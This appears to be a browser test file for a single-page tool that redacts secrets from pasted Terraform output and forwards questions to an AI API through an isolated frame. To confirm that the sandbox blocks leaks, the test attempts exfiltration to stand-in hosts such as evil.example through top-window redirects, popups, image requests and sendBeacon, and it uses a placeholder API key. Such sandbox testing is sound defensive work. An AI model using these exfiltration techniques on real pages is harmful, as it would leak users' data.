// The one file, opened from the disk: the whole way, with valve and workbench changed over.
import { assert, axe, free, pause, site, test, until, world } from "./lib.mjs";
import { LOCK_ID, PASTE, SECRETS } from "./samples.mjs";
import { whole } from "./wire.mjs";

const KEY = ["sk", "ant", "single", "Kd93mQpLr27V"].join("-");

for (const place of ["file", "http"]) {
  test(`the single file does the whole way, ${place === "file" ? "by double click" : "served"}`, async (bench) => {
    await bench.context.grantPermissions(["clipboard-read", "clipboard-write"]).catch(() => {});
    world.answer = whole("anthropic", ["Keep BUCKET_1. ", `Then \`terraform force-unlock ${LOCK_ID}\`.`]);
    await bench.open(place === "file" ? site.file : `${site.url}stackengine.html`);
    await bench.paste(PASTE);
    assert.ok((await bench.text("#fields")).includes(LOCK_ID));
    assert.ok((await bench.text("#steps")).includes(`terraform force-unlock ${LOCK_ID}`));
    free(await bench.work.locator("#leaves").textContent(), SECRETS, "the redacted text");
    site.seen.length = 0;
    const tried = await bench.work.evaluate(async () => {
      const out = {};
      const answer = (run) =>
        Promise.resolve()
          .then(run)
          .then(
            () => "open",
            (error) => error.name,
          );
      out.provider = await answer(() => fetch("https://api.anthropic.com/leak"));
      out.own = await answer(() => fetch(document.baseURI));
      out.top = await answer(() => {
        window.top.location.href = "https://evil.example/leak";
        throw new Error();
      });
      out.outer = await answer(() => window.parent.document.body);
      out.storage = await answer(() => localStorage.length);
      window.open("https://evil.example/popup-leak");
      new Image().src = "https://evil.example/image-leak";
      navigator.sendBeacon("https://evil.example/beacon-leak");
      return out;
    });
    assert.equal(tried.provider, "TypeError");
    assert.equal(tried.own, "TypeError");
    assert.equal(tried.outer, "SecurityError");
    assert.equal(tried.storage, "SecurityError");
    await pause(300);
    assert.deepEqual(world.seen, []);
    assert.equal(bench.context.pages().length, 1, "no window was opened");
    assert.ok((await bench.text("#fields")).includes(LOCK_ID), "the workbench still stands");
    bench.problems.length = 0;

    const copy = bench.work.locator("#steps .copy").last();
    await copy.scrollIntoViewIfNeeded();
    await copy.click();
    await until(() => copy.evaluate((one) => one.classList.contains("copied")), "copied");

    const valve = bench.valve();
    assert.equal(await valve.locator("#key").isVisible(), false, "a bar that is out of the way");
    await bench.picture(`single-${place}`);
    await valve.locator("#fold").click();
    await valve.locator("#key").fill(KEY);
    await bench.work.locator("#question").fill("What happened?");
    await bench.work.locator("[data-do=ask-prepare]").click();
    await bench.valveReady();
    await bench.picture(`single-preview-${place}`);
    const shown = await valve.locator("#body").textContent();
    assert.deepEqual(world.seen, []);
    await valve.locator("#send").click();
    const answer = bench.work.locator("#answers .answer").first();
    await until(async () => /Complete/.test(await answer.innerText()), "an answer");
    assert.ok((await answer.innerText()).includes("Keep my-tf-state-bucket."));
    const [call] = world.calls();
    assert.equal(call.body, shown);
    free(call.body, SECRETS, "the request");
    assert.ok(!(await bench.work.evaluate(() => document.documentElement.outerHTML)).includes(KEY));
    await bench.picture(`single-answer-${place}`);
    const links = await bench.work.locator("a[href]").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
    assert.deepEqual(
      links.filter((to) => !to.startsWith("about:srcdoc#")),
      [],
      "no link leads this frame away",
    );
    await bench.work.locator(".skip").focus();
    await bench.page.keyboard.press("Enter");
    await pause(300);
    assert.ok((await bench.text("#fields")).includes(LOCK_ID), "a link within the page stays in it");
    assert.deepEqual(await axe(bench.work), []);
    assert.deepEqual(await axe(bench.page.mainFrame()), []);
    assert.deepEqual(bench.problems, []);
  });
}
